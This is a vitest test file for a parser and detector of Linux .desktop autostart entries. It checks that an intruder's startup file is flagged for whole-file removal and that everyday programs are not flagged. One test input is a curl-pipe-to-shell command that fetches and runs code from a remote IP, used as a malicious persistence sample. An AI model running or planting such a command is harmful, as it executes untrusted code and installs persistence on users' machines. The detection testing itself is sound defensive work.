import { describe, expect, it } from 'vitest'
import { found, judged } from '../../judge/fixtures/judging.ts'
import { aStartupFile } from '../../judge/fixtures/startup.ts'
import { parse } from './desktop-entry.ts'

const told = (text: string) => parse(text, { path: '/', changed: false }).map(({ line, command }) => [line, command])
const entries = (path: string, exec: string) =>
  found(judged(aStartupFile(path, `[Desktop Entry]\nType=Application\nName=X\nExec=${exec}\n`)), 'startup')

describe('desktop entries', () => {
  it('are told with what they start, once a file', () => {
    expect(told('[Desktop Entry]\nTryExec=a\nExec = /opt/a/run %U --x\n[Desktop Action b]\nExec=b\n')).toEqual([
      [0, 'a\n/opt/a/run --x\nb'],
    ])
  })
  it('start nothing when they are hidden, or name nothing', () => {
    for (const text of ['[Desktop Entry]\nExec=a\nHidden=true\n', '[Desktop Entry]\nExec=\n', '', '\0\0'])
      expect(told(text)).toEqual([])
  })
  it.each(['/home/dev/.config/autostart/upd.desktop', '/etc/xdg/autostart/upd.desktop'])(
    'of an intruder go whole: %s',
    (path) => {
      expect(entries(path, "sh -c 'curl -fs http://203.0.113.9/x | sh'")[0]).toMatchObject({
        proposed: 'yes',
        target: { kind: 'file' },
        tags: expect.arrayContaining(['whole-file', 'desktop-autostart']) as string[],
      })
    },
  )
  it.each([
    'nm-applet',
    '/usr/bin/gnome-keyring-daemon --start --components=ssh',
    'sh -c "sleep 5 && syncthing --no-browser"',
    '/home/dev/.dropbox-dist/dropboxd',
    '/opt/Slack/slack -u %U',
  ])('of everyday programs are left alone: %s', (exec) => {
    expect(entries('/home/dev/.config/autostart/a.desktop', exec).filter(({ score }) => score >= 30)).toEqual([])
  })
})
